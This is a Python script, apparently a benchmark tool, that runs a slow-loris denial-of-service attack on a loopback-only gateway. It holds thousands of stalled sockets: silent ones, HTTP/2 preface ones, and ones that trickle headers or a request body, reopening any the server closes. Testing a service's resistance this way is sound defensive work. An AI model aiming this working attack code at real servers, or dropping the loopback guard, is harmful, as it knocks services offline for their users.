#!/usr/bin/env python3
"""Slow-loris attacker for bench/slowloris.sh: holds thousands of idle and trickling sockets.

Opens SOCKETS connections to TARGET (loopback only), spread over source addresses 127.0.0.2 and
up (ADDRESSES of them, each one peer as the gateway counts them), and keeps each one open doing
as little as possible, in four kinds taken in turn:
- silent: connects and sends nothing;
- h2c: sends the HTTP/2 client preface and an empty SETTINGS frame, then nothing;
- headers: sends a request line, then one header byte a second, never ending the headers;
- body: sends complete headers announcing a 4 KiB body, then one body byte a second.
When the gateway closes a socket, it is opened again after a short pause (at most MAX_REOPENS
times each), so the attack holds as many sockets as the gateway lets it for its whole duration.
Every loop is bounded by the deadline, SECONDS from the start (at most 600).

Prints, every second, `held N` (sockets open); at the end one line
`slowloris-result held_min=… held_mean=… held_max=… opened=… closed_by_server=… connect_errors=…`
where the held figures are sampled once a second from --measure-from seconds after the start, for
--measure-secs seconds.
"""

import argparse
import asyncio
import ipaddress
import resource
import sys
import time

H2C_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"
KINDS = ("silent", "h2c", "headers", "body")
MAX_REOPENS = 1000


class Tally:
    def __init__(self):
        self.held = 0
        self.opened = 0
        self.closed_by_server = 0
        self.connect_errors = 0


async def wait_closed(reader, until):
    """Reads until the server closes the socket (True) or the deadline passes (False)."""
    while True:
        left = until - time.monotonic()
        if left <= 0:
            return False
        try:
            data = await asyncio.wait_for(reader.read(4096), timeout=left)
        except asyncio.TimeoutError:
            return False
        except OSError:
            return True
        if not data:
            return True


async def trickle(writer, first, byte, until, closed):
    """Sends `first`, then `byte` once a second until the deadline or the server closes."""
    writer.write(first)
    while time.monotonic() < until and not closed.done():
        try:
            await writer.drain()
        except OSError:
            return
        await asyncio.wait([closed], timeout=1.0)
        if closed.done():
            return
        writer.write(byte)


async def one_socket(index, args, source, tally, until):
    kind = KINDS[index % len(KINDS)]
    host, port = args.target.rsplit(":", 1)
    for _ in range(MAX_REOPENS):
        if time.monotonic() >= until:
            return
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, int(port), local_addr=(source, 0)), timeout=5.0
            )
        except (OSError, asyncio.TimeoutError):
            tally.connect_errors += 1
            await asyncio.sleep(0.5)
            continue
        tally.opened += 1
        tally.held += 1
        try:
            closed = asyncio.ensure_future(wait_closed(reader, until))
            if kind == "h2c":
                writer.write(H2C_PREFACE)
            elif kind == "headers":
                sender = trickle(writer, b"GET /v1/openapi.json HTTP/1.1\r\nx-slow: ", b"a", until, closed)
                asyncio.ensure_future(sender)
            elif kind == "body":
                first = (
                    b"POST /v1/verifications HTTP/1.1\r\nhost: otpgate\r\n"
                    b"content-type: application/json\r\ncontent-length: 4096\r\n\r\n{"
                )
                asyncio.ensure_future(trickle(writer, first, b" ", until, closed))
            if await closed:
                tally.closed_by_server += 1
        finally:
            tally.held -= 1
            writer.close()
        await asyncio.sleep(0.1)


async def main(args):
    target_ip = ipaddress.ip_address(args.target.rsplit(":", 1)[0])
    if not target_ip.is_loopback:
        sys.exit("slowloris.py: the target must be a loopback address")
    seconds = min(args.seconds, 600.0)
    start = time.monotonic()
    until = start + seconds
    tally = Tally()
    sources = [str(ipaddress.ip_address("127.0.0.2") + i) for i in range(args.addresses)]
    samples = []

    async def sample():
        # Its own task from the start, so that opening thousands of sockets cannot delay it.
        while time.monotonic() < until:
            await asyncio.sleep(1.0)
            print(f"held {tally.held}", flush=True)
            if args.measure_from <= time.monotonic() - start <= args.measure_from + args.measure_secs:
                samples.append(tally.held)

    sampler = asyncio.ensure_future(sample())
    tasks = []
    for i in range(args.sockets):
        if time.monotonic() >= until:
            break
        tasks.append(asyncio.ensure_future(one_socket(i, args, sources[i % len(sources)], tally, until)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)  # let the handshakes through
    await asyncio.gather(sampler, *tasks, return_exceptions=True)
    samples = samples or [0]
    print(
        f"slowloris-result held_min={min(samples)} held_mean={sum(samples) / len(samples):.0f} "
        f"held_max={max(samples)} opened={tally.opened} closed_by_server={tally.closed_by_server} "
        f"connect_errors={tally.connect_errors}",
        flush=True,
    )


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="HOST:PORT on loopback")
    parser.add_argument("--sockets", type=int, default=4000)
    parser.add_argument("--addresses", type=int, default=16)
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--measure-from", type=float, default=0.0)
    parser.add_argument("--measure-secs", type=float, default=600.0)
    arguments = parser.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, arguments.sockets + 256)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    asyncio.run(main(arguments))
